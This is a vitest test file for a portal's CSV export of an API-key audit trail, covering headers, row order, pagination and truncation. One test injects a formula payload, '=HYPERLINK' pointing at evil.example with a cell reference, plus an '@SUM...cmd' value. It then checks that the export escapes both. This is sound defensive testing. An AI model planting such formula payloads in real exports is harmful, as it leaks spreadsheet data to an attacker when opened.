import { memoryStore } from 'keywright/stores/memory'
import { describe, expect, it } from 'vitest'
import { MEMBER, type PortalServer, servers } from '../portal-servers.js'
import { BY, keyringAt, NOON } from './audit-visits.js'

/** Reads a CSV file as RFC 4180 has it. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [[]]
  for (const [, quoted, plain, end] of text.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/g)) {
    rows.at(-1)?.push(quoted?.replaceAll('""', '"') ?? plain ?? '')
    if (end !== ',') rows.push([])
  }
  return rows.slice(0, -1)
}

const [onExpress] = servers as readonly [PortalServer]
const HEADING = 'event,at,action,account,subject_kind,subject,user,key,ip,reason,before,after,previous_hash,hash'

describe.each(servers)('$name: the file of the audit trail', ({ serve }) => {
  it('holds all pages, newest first, with instants in ISO 8601', async () => {
    const { keyring } = keyringAt()
    const { visitor } = await serve({ keyring })
    const { key } = await keyring.keys.create({ name: '0', account: 'acme' }, BY)
    for (let i = 1; i <= 250; i++) await keyring.keys.update(key.id, { name: String(i) }, BY)
    const { status, headers, text } = await visitor(MEMBER).get('/activity.csv?action=key.updated')
    expect(status).toBe(200)
    expect(headers.get('content-type')).toBe('text/csv; charset=utf-8')
    expect(headers.get('content-disposition')).toBe('attachment; filename="activity-2030-06-15.csv"')
    expect(headers.get('cache-control')).toBe('no-store')
    expect(headers.get('link')).toBeNull()
    expect(text.startsWith(`${HEADING}\r\n`)).toBe(true)
    const [heading = [], ...rows] = readCsv(text)
    expect(rows).toHaveLength(250)
    expect(rows.every(row => row.length === heading.length)).toBe(true)
    expect(rows[0]?.slice(1, 9)).toEqual([
      '2030-06-15T12:00:00.000Z',
      'key.updated',
      'acme',
      'key',
      key.id,
      'u1',
      '',
      '192.0.2.9',
    ])
    expect(rows.map(row => row[11])).toEqual(Array.from({ length: 250 }, (_, i) => `{"name":"${250 - i}"}`))
  })

  it('holds what people wrote, and no formula', async () => {
    const { keyring } = keyringAt()
    const { visitor } = await serve({ keyring })
    const { key } = await keyring.keys.create({ name: 'a', account: 'acme' }, { by: { user: '@SUM(1+1)*cmd' } })
    await keyring.keys.revoke(key.id, { reason: '=HYPERLINK("https://evil.example?x="&A1,"a, b") عربي', ...BY })
    const rows = readCsv((await visitor(MEMBER).get(`/activity.csv?subject=${key.id}`)).text).slice(1)
    expect(rows.map(row => [row[6], row[9]])).toEqual([
      ['u1', '\'=HYPERLINK("https://evil.example?x="&A1,"a, b") عربي'],
      ["'@SUM(1+1)*cmd", ''],
    ])
  })

  it('has its heading where there is nothing', async () => {
    const { visitor } = await serve()
    expect((await visitor(MEMBER).get('/activity.csv?user=nobody')).text).toBe(`${HEADING}\r\n`)
  })
})

it.each([
  ['many', 10_050, 1],
  ['large', 400, 60_000],
])(
  'of %s events it is cut, says so, and says where the rest is',
  async (_what, count, length) => {
    const store = memoryStore()
    const { visitor } = await onExpress.serve({ keyring: keyringAt({ store }).keyring })
    const events = Array.from({ length: count }, (_, i) => ({
      at: NOON,
      action: 'key.updated' as const,
      account: 'acme',
      subject: { kind: 'key', id: 'key_1' },
      actor: BY.by,
      before: null,
      after: { name: 'x'.repeat(length) },
      reason: String(i),
    }))
    await store.write({ events })
    const parts: string[][][] = []
    for (let path: string | null = '/activity.csv?subject=key_1'; path !== null; ) {
      const { text, headers } = await visitor(MEMBER).get(path)
      expect(headers.get('content-disposition')).toBe('attachment; filename="activity-2030-06-15-incomplete.csv"')
      const link = headers.get('link')
      const rest = /^<(activity\.csv\?[^>]*)>; rel="next"$/.exec(link ?? '')?.[1]
      expect(link === null || rest !== undefined).toBe(true)
      parts.push(readCsv(text).slice(1))
      path = rest === undefined ? null : `/${rest}`
    }
    expect(parts.length).toBeGreaterThan(1)
    expect(parts.flat().map(row => row[9])).toEqual(events.map(({ reason }) => reason).toReversed())
  },
  120_000,
)
